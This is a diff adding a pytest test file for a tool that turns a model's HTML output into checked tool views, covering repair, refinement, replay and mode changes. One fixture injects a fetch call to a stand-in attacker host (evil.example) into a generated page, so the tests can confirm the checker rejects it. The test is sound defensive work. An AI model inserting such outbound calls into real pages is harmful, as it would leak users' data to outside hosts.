@@ -1,0 +1,104 @@
+"""Pages by a model: through the same checks, repaired by rules and by the model, refined, replayed."""
+
+import json
+from pathlib import Path
+
+import pytest
+from standin import standing_in
+from test_replay import without_views
+from test_writing import build, contents, entry, key, project  # noqa: F401
+
+from genui.cli import main
+
+CASES = Path(__file__).parent / "cases" / "render"
+TOOL = json.loads((CASES / "tool.json").read_text())
+PAGE = (CASES / "nothing-wrong" / "page.html").read_text()
+LATER = PAGE.replace("<h1>Orders</h1>", "<h1>All orders</h1>")
+HOSTILE = PAGE.replace(
+    "app.ontoolresult = show;", "app.ontoolresult = show;\nfetch('https://evil.example/' + 1);\n"
+)
+SLIP = PAGE.replace(' lang="en"', "")
+MODE = 'mode = "html"\n'
+
+
+def named(page, tool=TOOL):
+    return page.replace("list_orders", tool["name"])
+
+
+def test_a_page_becomes_the_view(project):  # noqa: F811
+    with standing_in(f"Here you are:\n```html\n{PAGE}\n```") as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--strict") == 0
+    made = entry(generated, "list_orders")
+    assert made.generator == "html"
+    assert made.prompt == "generate_html"
+    assert made.scores.startswith("html ")
+    assert (generated / "list_orders.page.html").read_text().startswith("<!doctype html>")
+    assert b"modelcontextprotocol/ext-apps" not in (generated / made.file).read_bytes()
+    assert main(["check", "--from-snapshot"]) == 0
+
+
+@pytest.mark.parametrize("first", [HOSTILE, "I made a page for you.", PAGE[:800], json.dumps({"a": 1})])
+def test_findings_of_a_page_go_back_to_the_model(project, first):  # noqa: F811
+    with standing_in(first, PAGE) as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--strict") == 0
+        assert len(stand.requests) == 2
+        assert "schema" not in str(stand.requests[0].get("output_config"))
+    assert entry(generated, "list_orders").generator == "html"
+
+
+def test_a_slip_is_mended_without_asking(project):  # noqa: F811
+    with standing_in(SLIP) as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--strict") == 0
+        assert len(stand.requests) == 1
+    assert entry(generated, "list_orders").generator == "html"
+
+
+def test_a_hostile_page_is_never_let_in(project):  # noqa: F811
+    with standing_in(HOSTILE) as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--strict") == 4
+        assert len(stand.requests) == 3
+    made = entry(generated, "list_orders")
+    assert made.generator == "offline"
+    assert "the model's page has errors" in made.fallback
+    assert not (generated / "list_orders.page.html").exists()
+    assert b"evil.example" not in (generated / made.file).read_bytes()
+
+
+def test_a_page_is_refined_by_the_model_and_replayed(project, monkeypatch, capsys):  # noqa: F811
+    def act(body):
+        return LATER if "A person who uses this view wishes" in body["messages"][0]["content"] else PAGE
+
+    with standing_in(act) as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--record", "--strict") == 0
+        assert main(["refine", "list_orders", "a bolder heading", "--record"]) == 0
+    assert "All orders" in (generated / "list_orders.page.html").read_text()
+    assert main(["check", "--from-snapshot"]) == 0
+    before = contents(generated)
+    monkeypatch.delenv("ANTHROPIC_API_KEY")
+    assert build() == 0
+    assert contents(generated) == before
+    assert build("--replay", "--force", "--strict") == 0
+    assert contents(generated) == before
+    without_views(generated)
+    assert build("--replay", "--strict") == 0
+    assert contents(generated) == before
+    assert main(["undo", "list_orders"]) == 4
+    assert main(["refine", "list_orders", "line chart"]) == 4
+    assert "is a page" in capsys.readouterr().err
+
+
+def test_a_page_gives_way_to_a_spec_when_the_mode_changes(project):  # noqa: F811
+    with standing_in(PAGE) as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--strict") == 0
+    answer = json.dumps({"version": 1, "title": "Orders", "result": [{"type": "auto"}]})
+    with standing_in(answer) as stand:
+        project(TOOL, address=stand.address)
+        assert build("--strict") == 0
+    assert entry(generated, "list_orders").generator == "spec"
+    assert not (generated / "list_orders.page.html").exists()
